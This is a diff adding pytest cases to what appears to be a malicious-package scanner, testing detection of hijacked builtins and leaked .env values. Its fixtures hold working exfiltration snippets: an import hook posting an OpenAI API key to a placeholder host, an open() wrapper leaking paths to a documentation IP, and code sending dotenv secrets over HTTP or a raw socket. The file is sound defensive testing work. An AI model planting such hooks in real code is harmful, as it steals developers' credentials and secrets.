@@ -658,3 +658,119 @@ def test_host_details_sent_by_the_browser_are_found_with_the_prefilter_too(
 )
 def test_urls_the_browser_opens_that_carry_no_host_details_away_stay_clean(source: str) -> None:
     assert "CPL-THR-017" not in danger(source, mode=ScanMode.PACKAGE)
+
+
+# -- recall17: a builtin replaced by a function that sends -------------------------------------
+
+#: blind16's b16-ot-import-wrapper-boto3 (ReversingLabs, 2025): ``builtins.__import__``
+#: wrapped so that importing boto3 posts its credentials; the same for any builtin a
+#: replacement sends from (clean on main: builtins were never a patched library).
+BUILTIN_HOOKS = [
+    (
+        Path(__file__).resolve().parents[2]
+        / "benchmarks/malware/tune/b16-ot-import-wrapper-boto3/importtime_profiler/__init__.py"
+    ).read_text(encoding="utf-8"),
+    "import builtins, requests\n"
+    "_real = builtins.__import__\n"
+    "def _imp(name, *a, **k):\n"
+    "    m = _real(name, *a, **k)\n"
+    "    if name == 'openai':\n"
+    "        requests.post('https://t.recall17.example/k', json={'k': m.api_key})\n"
+    "    return m\n"
+    "setattr(builtins, '__import__', _imp)\n",
+    "import builtins, urllib.request\n"
+    "_open = builtins.open\n"
+    "def _spy(path, *a, **k):\n"
+    "    urllib.request.urlopen('http://198.51.100.7/o?p=' + str(path))\n"
+    "    return _open(path, *a, **k)\n"
+    "builtins.open = _spy\n",
+]
+
+
+@pytest.mark.parametrize("source", BUILTIN_HOOKS)
+def test_a_builtin_replaced_by_a_function_that_sends_is_a_threat(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-025" in danger(source)
+    assert "CPL-THR-025" in danger(source, mode=ScanMode.PLUGIN)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # an import-time profiler (python -X importtime's kin): it times, it sends nothing
+        "import builtins, time\n"
+        "_orig = builtins.__import__\n"
+        "TIMES = {}\n"
+        "def _timed(name, *a, **k):\n"
+        "    t = time.perf_counter()\n"
+        "    try:\n"
+        "        return _orig(name, *a, **k)\n"
+        "    finally:\n"
+        "        TIMES[name] = time.perf_counter() - t\n"
+        "builtins.__import__ = _timed\n",
+        # a lazy importer that reads boto3's credentials to warn of their absence
+        "import builtins, logging\n"
+        "_orig = builtins.__import__\n"
+        "def _check(name, *a, **k):\n"
+        "    m = _orig(name, *a, **k)\n"
+        "    if name == 'boto3' and m.Session().get_credentials() is None:\n"
+        "        logging.warning('no AWS credentials')\n"
+        "    return m\n"
+        "builtins.__import__ = _check\n",
+        # gettext's _ installed as a builtin
+        "import builtins, gettext\nbuiltins._ = gettext.gettext\n",
+    ],
+)
+def test_a_builtin_replaced_by_one_that_sends_nothing_is_not_a_threat(source: str) -> None:
+    assert "CPL-THR-025" not in danger(source)
+
+
+# -- recall17: a .env file's values sent ----------------------------------------------------
+
+#: blind16's b16-ts-dotenv-wrapper (Socket, 2025): a python-dotenv typosquat re-exports it
+#: and wraps load_dotenv so that the parsed values are posted (clean on main: a .env
+#: file's values were no source).
+DOTENV_SENT = [
+    (
+        Path(__file__).resolve().parents[2]
+        / "benchmarks/malware/tune/b16-ts-dotenv-wrapper/dotenvv/__init__.py"
+    ).read_text(encoding="utf-8"),
+    "import dotenv, requests\n"
+    "def load(path='.env'):\n"
+    "    values = dotenv.dotenv_values(path)\n"
+    "    requests.post('https://cfg.recall17.example/', json=values)\n"
+    "    return values\n",
+    "from dotenv.main import dotenv_values\nimport socket\n"
+    "s = socket.create_connection(('203.0.113.5', 443))\n"
+    "s.sendall(str(dict(dotenv_values())).encode())\n",
+]
+
+
+@pytest.mark.parametrize("source", DOTENV_SENT)
+def test_a_dotenv_files_values_sent_are_harvesting(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-006" in danger(source)
+    assert "CPL-THR-006" in danger(source, mode=ScanMode.PLUGIN)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-006")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a wrapper that loads, logs the names it set and returns (no value leaves)
+        "from dotenv import dotenv_values, load_dotenv as _ld\nimport logging\n"
+        "def load_dotenv(*a, **k):\n"
+        "    r = _ld(*a, **k)\n"
+        "    logging.info('loaded %s', sorted(dotenv_values(*a[:1])))\n"
+        "    return r\n",
+        # one value of the file used as the token of the API it belongs to
+        "from dotenv import dotenv_values\nimport requests\n"
+        "config = dotenv_values('.env')\n"
+        "requests.get(config['API_URL'], headers={'Authorization': config['API_TOKEN']})\n",
+    ],
+)
+def test_a_dotenv_wrapper_that_sends_no_values_is_clean(source: str) -> None:
+    assert "CPL-THR-006" not in danger(source)
